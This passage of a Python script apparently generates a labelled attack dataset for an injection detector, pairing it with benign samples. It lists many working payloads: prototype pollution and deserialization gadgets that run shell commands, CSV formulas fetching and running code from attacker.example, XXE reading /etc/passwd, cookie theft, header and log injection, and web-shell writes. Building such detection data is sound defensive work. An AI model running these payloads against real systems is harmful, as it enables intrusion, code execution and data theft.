    ("proto-pollution", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("proto-pollution", "__proto__[isAdmin]=true"),
    ("proto-pollution", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("proto-pollution", "{\"slot\":\"10:00\",\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}"),
    # CSV / DDE
    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Lock 7 details\")"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "+cmd|'/c powershell iwr attacker.example/c.ps1|iex'!A1"),
    ("csv-formula", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-formula", "L7,2024-06-01,=WEBSERVICE(\"https://attacker.example/x?\"&C2),29"),
    ("csv-formula", "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",A1:D20),\"//a\")"),
    ("csv-formula", "\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"x\"\")\""),
    ("csv-formula", "\t=HYPERLINK(\"http://203.0.113.4/\",\"update counts\")"),
    # XXE
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE lv [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><levels><lock>&x;</lock></levels>"),
    ("xxe", "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r>L7</r>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE c [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><count><site>&s;</site></count>"),
    ("xxe", "<!DOCTYPE x [<!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/etc/lockkeeper/db.conf\">]><x>&f;</x>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&h;</text></svg>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE b [<!ENTITY a \"lock\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><b>&d;</b>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>"),
    # deserialization
    ("deser-php", "O:8:\"LockGate\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deser-php", "a:1:{i:0;O:12:\"LoggerWriter\":2:{s:4:\"path\";s:23:\"/var/www/html/shell.php\";s:4:\"data\";s:23:\"<?php system($_GET[1]);\";}}"),
    ("deser-python", "cos\nsystem\n(S'curl attacker.example/k|sh'\ntR."),
    ("deser-yaml", "!!python/object/apply:os.system [\"curl attacker.example/y | sh\"]"),
    ("deser-yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("deser-dotnet", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("deser-json", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/o\",\"autoCommit\":true}"),
    ("deser-json", "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"rmi://198.51.100.44:1099/x\"}]"),
    ("deser-node", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
]

NOSQLI = [
    ("operator", "{\"licence_no\": {\"$ne\": null}}"),
    ("operator", "{\"email\": \"keeper@canal.example\", \"password\": {\"$ne\": \"x\"}}"),
    ("operator", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("operator", "{\"boat\": {\"$regex\": \".*\"}}"),
    ("operator", "{\"password\": {\"$regex\": \"^a\"}, \"username\": \"admin\"}"),
    ("operator", "{\"lock_id\": {\"$in\": [\"L1\",\"L2\"]}, \"$or\": [{}, {\"role\": \"admin\"}]}"),
    ("operator", "{\"holder\": {\"$exists\": true}, \"role\": {\"$nin\": [\"volunteer\"]}}"),
    ("operator", "{\"$or\": [{\"status\": \"closed\"}, {\"status\": {\"$ne\": \"closed\"}}]}"),
    ("operator", "{\"level\": {\"$lt\": 9999}, \"$comment\": \"dump all\"}"),
    ("param", "password[$ne]=nothing&email=keeper@canal.example"),
    ("param", "licence_no[$regex]=^44&licence_no[$options]=s"),
    ("param", "username[$gt]=&password[$gt]="),
    ("param", "boat[$exists]=true"),
    ("param", "token[$nin][]=x"),
    ("where", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where", "{\"$where\": \"this.password.match(/^a/) != null\"}"),
    ("where", "'; return this.role == 'admin' || ''=='"),
    ("where", "Kingfisher'; while(true){}; var x='"),
    ("where", "1; return db.getCollectionNames()"),
    ("where", "{\"$where\": \"function(){ return obj.licence_no.length > 0 }\"}"),
    ("aggregate", "[{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}]"),
    ("aggregate", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password\"}, 0]}}"),
    ("aggregate", "{\"$function\": {\"body\": \"function(){ return true }\", \"args\": [], \"lang\": \"js\"}}"),
    ("couch", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"limit\": 100000}"),
    ("js-string", "Heron' || '1'=='1"),
    ("js-string", "\"; return true; var a=\""),
    ("elastic", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}}"),
]

CRLF = [
    ("log-forging", "Kingfisher\n2024-06-01 09:14:02 INFO booking BK-2024-01001 approved by admin"),
    ("log-forging", "L7 level 1.02\r\n2024-06-01T03:00:00Z WARN level_logger: sensor reset by user=supervisor"),
    ("log-forging", "INC-3340 closed%0a[2024-06-02 10:00:00] AUTH success user=admin ip=10.0.0.1"),
    ("log-forging", "pound 12 ok%0d%0aINFO stoppage ST-2024-0199 cancelled by duty_manager"),
    ("log-forging", "WO-1183 done\n\n=== audit trail cleared by system ==="),
    ("log-forging", "Heron\u2028ERROR payment reversed LIC-000123"),
    ("log-forging", "volunteer Sam%E5%98%8A%E5%98%8DINFO shift approved"),
    ("header", "bookings.example.org%0d%0aSet-Cookie:%20session=attacker"),
    ("header", "en\r\nX-Forwarded-For: 127.0.0.1"),
    ("header", "/confirm?ref=BK1%0D%0ALocation:%20https://attacker.example/phish"),
    ("header", "lock7.pdf\r\nContent-Disposition: attachment; filename=update.exe"),
    ("header", "Europe/London%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true"),
    ("header", "utf-8\r\nContent-Security-Policy: script-src *"),
    ("header", "%0d%0aSet-Cookie:%20role=admin;%20Path=/"),
    ("response-splitting", "L7%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("response-splitting", "stoppages\r\n\r\n<html><body>Lock closed — log in again at https://attacker.example</body></html>"),
    ("response-splitting", "/levels%0A%0A%3Cscript%3Efetch('//attacker.example/'+document.cookie)%3C/script%3E"),
    ("response-splitting", "next=/home%E5%98%8D%E5%98%8ASet-Cookie:%20sid=fixed123"),
    ("mail-header", "skipper@boatmail.example\r\nBcc: list@attacker.example"),
    ("mail-header", "Stoppage update\nCc: everyone@attacker.example\nX-Priority: 1"),
    ("mail-header", "keeper@canal.example%0ABcc:%20harvest@attacker.example"),
    ("mail-header", "Siobhán O'Connor\r\nReply-To: billing@attacker.example"),
    ("mail-header", "Booking confirmed\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/pay\">Pay your licence fee now</a>"),
    ("mail-header", "noreply@canal.example\nTo: victim1@example.net, victim2@example.net"),
    ("csv-row", "Lock 7 busy day\n=HYPERLINK(\"https://attacker.example/?\"&A1,\"click\"),0,0"),
    ("csv-row", "L5,2024-06-01,34,29\r\nL5,2024-06-02,9999,9999"),
    ("csv-row", "\"Lock 3\"\n\"Lock 4\",\"2024-06-01\",\"=cmd|' /C calc'!A0\""),
    ("csv-row", "Aisha,07700900111,\"3\"\nadmin,00000000000,\"ALL\",role=superuser"),
    ("smtp", "hi\r\n.\r\nMAIL FROM:<ops@attacker.example>\r\nRCPT TO:<all-boaters@canal.example>\r\nDATA\r\nSubject: Licence suspended"),
    ("redis", "L7\r\nCONFIG SET dir /var/www/html\r\nCONFIG SET dbfilename x.php\r\n"),
]

LDAP_XPATH = [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "keeper)(|(password=*)"),
    ("ldap", "admin)(&)"),
    ("ldap", "*)(objectClass=*"),
    ("ldap", "sam*)(memberOf=cn=lock-admins,ou=groups,dc=canal,dc=local"),
    ("ldap", "volunteer)(!(cn=nobody)"),
    ("ldap", "*))%00"),
    ("ldap", "Aisha)(|(userPassword=a*)(userPassword=b*)"),
    ("ldap", "x)(description=*secret*"),
    ("ldap", "\\2a)(uid=\\2a"),
    ("xpath", "' or '1'='1"),
    ("xpath", "L7' or 1=1 or 'a'='a"),
    ("xpath", "x' or name()='password' or 'x'='y"),
    ("xpath", "'] | //staff/user/password | //x['"),
    ("xpath", "L7' and string-length(//user[1]/password)>6 and '1'='1"),
    ("xpath", "') or count(/*)=1 or ('a'='b"),
    ("xpath", "Kingfisher' or substring(//licence[1]/holder,1,1)='S"),
    ("xpath", "1 or 1=1]/parent::*/child::node()"),
    ("xpath", "' or doc('http://attacker.example/x.xml') or '"),
    ("xpath", "\" or contains(//user/role,\"admin\") or \"\"=\""),
]


SEED = 27102
HERE = os.path.dirname(os.path.abspath(__file__))


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def joined(rng, prefixes, pool, n, seps):
    combos = sorted((p, q) for p in prefixes for q in pool)
    rng.shuffle(combos)
    out = []
    for p, q in combos[:n]:
        out.append(p + rng.choice(seps) + q if not q.startswith(" ") else p + q)
    return out


def build():
    rng = random.Random(SEED)
    rows = []  # (category, class, value, literal?)
    for c, v in SQLI:
        rows.append(("sqli", c, v, True))
    for v in SQLI_URLENCODE:
        rows.append(("sqli", "boolean+urlencode" if "OR" in v else ("union+urlencode" if "UNION" in v else "time+urlencode"), urlencode_all(v), False))
    for v in joined(rng, SQLI_PREFIXES, SQLI_POOL, 7, [""]):
        rows.append(("sqli", "prefixed", v, False))
    for c, v in XSS:
        rows.append(("xss", c, v, True))
    for v in joined(rng, XSS_PREFIXES, XSS_POOL, 3, [""]):
        rows.append(("xss", "prefixed", v, False))
    for c, v in CMDI:
        rows.append(("cmdi", c, v, True))
    for v in joined(rng, CMDI_PREFIXES, CMDI_POOL, 6, [""]):
        rows.append(("cmdi", "prefixed", v, False))
    for c, v in TRAVERSAL:
        rows.append(("traversal", c, v, True))
    for v in TRAVERSAL_URLENCODE:
        rows.append(("traversal", "dotdot+urlencode", urlencode_all(v), False))
    for cat, lst in (("ssrf", SSRF), ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF), ("ldap-xpath", LDAP_XPATH)):
        for c, v in lst:
            rows.append((cat, c, v, True))
    return rows


def main():
    rows = build()
    benign = set()
    bpath = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    seen = set()
    for cat, c, v, lit in rows:
        if v in seen:
            raise SystemExit("duplicate attack: %r" % v)
        if v in benign:
            raise SystemExit("attack equals benign: %r" % v)
        if not (1 <= len(v) <= 2000):
            raise SystemExit("bad length: %r" % v)
        for ch in v:
            if ord(ch) < 32 and ch not in "\n\r\t":
                raise SystemExit("control char in %r" % v)
        seen.add(v)
    with open(os.path.join(HERE, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, c, v, lit) in enumerate(rows, 1):
            obj = {"id": "hajb-%05d" % i, "category": cat, "class": c, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    stats = {}
    for cat, c, v, lit in rows:
        n, l = stats.get(cat, (0, 0))
        stats[cat] = (n + 1, l + (1 if lit else 0))
    for cat, (n, l) in stats.items():
        print("%-12s n=%d literals=%d" % (cat, n, l))
    tot = len(rows)
    lits = sum(1 for r in rows if r[3])
    print("total", tot, "literals", lits, "(%.1f%%)" % (100.0 * lits / tot))


if __name__ == "__main__":
    main()
